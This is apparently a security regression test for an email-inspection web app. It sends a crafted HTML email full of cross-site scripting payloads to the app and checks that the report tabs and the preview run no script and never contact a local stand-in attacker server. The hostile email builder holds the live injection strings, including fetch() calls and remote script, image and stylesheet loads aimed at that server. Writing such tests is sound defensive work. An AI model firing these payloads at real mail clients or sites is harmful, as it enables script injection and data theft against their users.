import { createServer } from 'node:http'
import type { Browser } from 'playwright-core'
import { afterAll, expect } from 'vitest'
import { freePort, type Instance } from '../instance.ts'
import { openPage } from './browser.ts'
import { test } from './worker.ts'

/** The HTML of a hostile mail can run nothing and load nothing in the report's page. */

let instance: Instance
let browser: Browser
/** A server that the mail tries to reach by every means; what reached it. */
let attacker: { origin: string; hits: string[]; close(): void }
test.beforeAll(async ({ chromium, plain }) => {
  browser = chromium
  instance = plain
  attacker = await startAttacker()
})

async function startAttacker() {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.end('top.pwned=1')
  })
  const port = await freePort()
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve))
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => server.close() }
}
afterAll(() => attacker?.close())

const attackOn = (origin: string) =>
  `top.pwned=1;window.pwned=1;parent.document.title='pwned';fetch('${origin}/x')`
function hostile(origin: string): string {
  const attack = attackOn(origin)
  return [
    'From: "<img src=x onerror=pwned=1>" <a@example.org>',
    'To: reader@localhost.test',
    `Subject: </title><script>${attack}</script>`,
    'Date: Wed, 18 Nov 2026 09:00:00 +0000',
    'Message-ID: <"onmouseover=pwned=1"@example.org>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<script>${attack}</script><script src="${origin}/a.js"></script>`,
    `<img src="${origin}/pixel.gif" onerror="${attack}"><img src=x onerror="${attack}">`,
    `<svg onload="${attack}"><animate onbegin="${attack}" attributeName=x dur=1s></svg>`,
    `<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>`,
    `<object data="${origin}/o"></object><embed src="${origin}/e">`,
    `<link rel="stylesheet" href="${origin}/s.css"><style>@import "${origin}/i.css";body{background:url(${origin}/bg)}</style>`,
    `<base href="${origin}/"><meta http-equiv="refresh" content="0;url=${origin}/r">`,
    `<a href="javascript:${attack}">https://example.org/account</a><form action="${origin}/f"><input autofocus onfocus="${attack}"></form>`,
    `<video src="${origin}/v" autoplay></video><math><mi xlink:href="javascript:${attack}">x</mi></math>`,
    `--></textarea></noscript></style></template><img src=1 onerror="${attack}">\u2028{{constructor.constructor('pwned=1')()}}`,
  ].join('\r\n')
}

test.each(['', 'delivery', 'clients', 'source'])('tab "%s" stays quiet', async (tab) => {
  const { id, email } = await instance.browser.address()
  await instance.send(email, hostile(attacker.origin))
  expect((await instance.browser.result(id)).status).toBe('completed')
  const { page } = await openPage(browser, instance.url)
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    dialog.dismiss()
  })
  await page.goto(`${instance.url}/results/${id}/${tab}`)
  await page.waitForLoadState('networkidle')
  for (const details of await page.locator('details').all()) {
    await details.evaluate((node) => node.setAttribute('open', ''))
  }
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
  for (const frame of page.frames()) expect(frame.url()).not.toContain(attacker.origin)
  expect(await page.title()).not.toBe('pwned')
  expect([attacker.hits, dialogs]).toEqual([[], []])
})

test('the preview opened by itself runs and loads nothing', async () => {
  const { id, email } = await instance.browser.address()
  await instance.send(email, hostile(attacker.origin))
  await instance.browser.result(id)
  const { page } = await openPage(browser, instance.url)
  await page.goto(`${instance.url}/api/emails/${id}/preview`)
  await page.waitForLoadState('networkidle')
  expect(page.url()).toBe(`${instance.url}/api/emails/${id}/preview`)
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
  expect(attacker.hits).toEqual([])
})
